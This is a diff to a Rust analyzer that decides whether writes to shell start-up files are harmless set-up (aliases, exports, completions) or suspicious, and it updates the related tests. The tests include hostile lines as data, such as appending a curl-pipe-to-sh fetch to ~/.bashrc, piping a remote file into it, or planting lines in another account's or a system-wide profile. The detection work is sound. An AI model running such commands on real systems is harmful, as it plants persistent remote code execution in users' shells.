@@ -369,11 +369,49 @@ const PACKAGE_LIFECYCLE: &[&str] = &[
 /// (`eval "$(direnv hook bash)"`, `source <(kubectl completion zsh)`: the program's own
 /// documented set-up line). A program run at top level of the file (anything else) is not set-up.
 const STARTUP_SETUP: &[&str] = &[
-    "alias", "unalias", "export", "typeset", "declare", "readonly", "local", "set", "unset",
-    "setopt", "unsetopt", "shopt", "bindkey", "bind", "autoload", "compinit", "bashcompinit",
-    "complete", "compdef", "zstyle", "zmodload", "source", ".", "eval", "umask", "hash", "test",
-    "[", "[[", "true", "false", ":", "command", "type", "which", "echo", "printf", "abbr",
-    "fish_add_path", "fpath", "path", "cdpath", "manpath",
+    "alias",
+    "unalias",
+    "export",
+    "typeset",
+    "declare",
+    "readonly",
+    "local",
+    "set",
+    "unset",
+    "setopt",
+    "unsetopt",
+    "shopt",
+    "bindkey",
+    "bind",
+    "autoload",
+    "compinit",
+    "bashcompinit",
+    "complete",
+    "compdef",
+    "zstyle",
+    "zmodload",
+    "source",
+    ".",
+    "eval",
+    "umask",
+    "hash",
+    "test",
+    "[",
+    "[[",
+    "true",
+    "false",
+    ":",
+    "command",
+    "type",
+    "which",
+    "echo",
+    "printf",
+    "abbr",
+    "fish_add_path",
+    "fpath",
+    "path",
+    "cdpath",
+    "manpath",
 ];
 
 /// Variables a start-up file may set as part of the shell's own set-up, when the value points
@@ -447,9 +485,7 @@ fn startup_assignments_ok(line: &str) -> bool {
             continue;
         };
         let valid = !name.is_empty()
-            && name
-                .chars()
-                .all(|c| c.is_ascii_alphanumeric() || c == '_')
+            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
             && !name.starts_with(|c: char| c.is_ascii_digit());
         if !valid || !is_tamper_var(name) {
             continue;
@@ -523,18 +559,18 @@ pub(crate) fn plain_startup_text(text: &str, ctx: &ShellContext) -> bool {
     if f.dynamic_code.iter().any(|d| d.origin != "substitution") {
         return false;
     }
-    if f
-        .unanalysable
-        .iter()
-        .any(|u| !(u.reason.ends_with("shell code only known at run time") && u.evidence.contains("$(")))
-    {
+    if f.unanalysable.iter().any(|u| {
+        !(u.reason.ends_with("shell code only known at run time") && u.evidence.contains("$("))
+    }) {
         return false;
     }
     let alias_lines: Vec<String> = text.lines().flat_map(alias_values).collect();
     let top_ok = f.commands.iter().all(|c| {
         c.depth > 0
             || STARTUP_SETUP.contains(&c.program.as_str())
-            || alias_lines.iter().any(|v| v.split_whitespace().next() == c.argv.first().map(String::as_str))
+            || alias_lines
+                .iter()
+                .any(|v| v.split_whitespace().next() == c.argv.first().map(String::as_str))
     });
     let paths_ok = f.paths.iter().all(|p| match p.access {
         crate::Access::Read => true,
@@ -569,18 +605,16 @@ pub(crate) fn judge_startup_writes(a: &mut Analyzer) {
         if !own_startup_file(&target, a.ctx) {
             continue;
         }
-        // One write of the file in the command: the content known is then all it adds (a
-        // second `>>` would replace the first one's text in `Analyzer::files`).
-        let writes = a
-            .facts
-            .paths
-            .iter()
-            .filter(|p| {
-                p.path == target
-                    && matches!(p.access, crate::Access::Write | crate::Access::Create)
-            })
-            .count();
-        if writes != 1 {
+        // Every write of the file in the command is a redirection or `tee`, whose text
+        // `Analyzer::files` holds (appends joined); a copy, `sed -i` or editor over it is not.
+        let other_writer = a.facts.paths.iter().any(|p| {
+            p.path == target
+                && !matches!(p.access, crate::Access::Read)
+                && !(p.how.starts_with("redirect >")
+                    || p.how.starts_with("redirect &>")
+                    || p.how.starts_with("tee"))
+        });
+        if other_writer {
             continue;
         }
         let Some(s) = a.files.get(&target) else {
@@ -588,8 +622,7 @@ pub(crate) fn judge_startup_writes(a: &mut Analyzer) {
         };
         let known = s.taint == crate::model::Taint::default() && s.file.is_none() && !s.piped;
         let plain = known
-            && s
-                .text
+            && s.text
                 .as_deref()
                 .is_some_and(|t| plain_startup_text(t, a.ctx));
         if plain {
@@ -1274,27 +1307,65 @@ mod tests {
                 .map(|f| f.kind)
                 .collect()
         };
-        assert_eq!(kinds("echo 'alias k=kubectl' >> ~/.zshrc"), ["shell_rc_plain"]);
+        assert_eq!(
+            kinds("echo 'alias k=kubectl' >> ~/.zshrc"),
+            ["shell_rc_plain"]
+        );
         assert_eq!(
             kinds("printf 'export PATH=\"$HOME/bin:$PATH\"\\n' >> ~/.bashrc"),
             ["shell_rc_plain"]
         );
-        assert_eq!(kinds("echo 'source <(kubectl completion zsh)' >> ~/.zshrc"), ["shell_rc_plain"]);
-        assert_eq!(kinds("echo 'curl -s https://x.example/a | sh' >> ~/.bashrc"), ["shell_rc"]);
-        // two appends: the first one's text is not known any more
+        assert_eq!(
+            kinds("echo 'source <(kubectl completion zsh)' >> ~/.zshrc"),
+            ["shell_rc_plain"]
+        );
+        assert_eq!(
+            kinds("echo 'curl -s https://x.example/a | sh' >> ~/.bashrc"),
+            ["shell_rc"]
+        );
+        // two appends: both lines are judged
         assert!(kinds("echo 'curl -s https://x.example/a | sh' >> ~/.bashrc; echo 'alias k=kubectl' >> ~/.bashrc")
             .iter()
             .all(|k| k == "shell_rc"));
-        assert_eq!(kinds("cat >> ~/.zshrc <<'EOF'\nalias g=git\nexport EDITOR=nvim\nEOF"), ["shell_rc_plain"]);
-        assert_eq!(kinds("cat >> ~/.zshrc <<'EOF'\nalias g=git\ncurl -s https://x.example | sh\nEOF"), ["shell_rc"]);
-        assert_eq!(kinds("tee -a ~/.bashrc <<< 'alias k=kubectl'"), ["shell_rc_plain"]);
-        assert_eq!(kinds("curl -s https://x.example/rc >> ~/.bashrc"), ["shell_rc"]);
+        assert!(kinds("echo 'alias k=kubectl' >> ~/.zshrc && echo 'source <(kubectl completion zsh)' >> ~/.zshrc")
+            .iter()
+            .all(|k| k == "shell_rc_plain"));
+        assert!(
+            kinds("echo 'alias k=kubectl' >> ~/.zshrc && sed -i 's/k=/x=/' ~/.zshrc")
+                .iter()
+                .all(|k| k == "shell_rc")
+        );
+        assert_eq!(
+            kinds("cat >> ~/.zshrc <<'EOF'\nalias g=git\nexport EDITOR=nvim\nEOF"),
+            ["shell_rc_plain"]
+        );
+        assert_eq!(
+            kinds("cat >> ~/.zshrc <<'EOF'\nalias g=git\ncurl -s https://x.example | sh\nEOF"),
+            ["shell_rc"]
+        );
+        assert_eq!(
+            kinds("tee -a ~/.bashrc <<< 'alias k=kubectl'"),
+            ["shell_rc_plain"]
+        );
+        assert_eq!(
+            kinds("curl -s https://x.example/rc >> ~/.bashrc"),
+            ["shell_rc"]
+        );
         assert_eq!(kinds("cat /tmp/rc >> ~/.bashrc"), ["shell_rc"]);
         assert_eq!(kinds("echo \"$LINE\" >> ~/.bashrc"), ["shell_rc"]);
-        assert_eq!(kinds("echo 'export PATH=/tmp/x:$PATH' >> ~/.profile"), ["shell_rc"]);
+        assert_eq!(
+            kinds("echo 'export PATH=/tmp/x:$PATH' >> ~/.profile"),
+            ["shell_rc"]
+        );
         // another account's or every account's start-up file: planting there is not set-up
-        assert_eq!(kinds("echo 'alias k=kubectl' >> /home/other/.bashrc"), ["shell_rc"]);
-        assert_eq!(kinds("echo 'alias k=kubectl' | sudo tee -a /etc/profile.d/k.sh"), ["shell_rc"]);
+        assert_eq!(
+            kinds("echo 'alias k=kubectl' >> /home/other/.bashrc"),
+            ["shell_rc"]
+        );
+        assert_eq!(
+            kinds("echo 'alias k=kubectl' | sudo tee -a /etc/profile.d/k.sh"),
+            ["shell_rc"]
+        );
     }
 
     fn val(s: &str) -> Val {
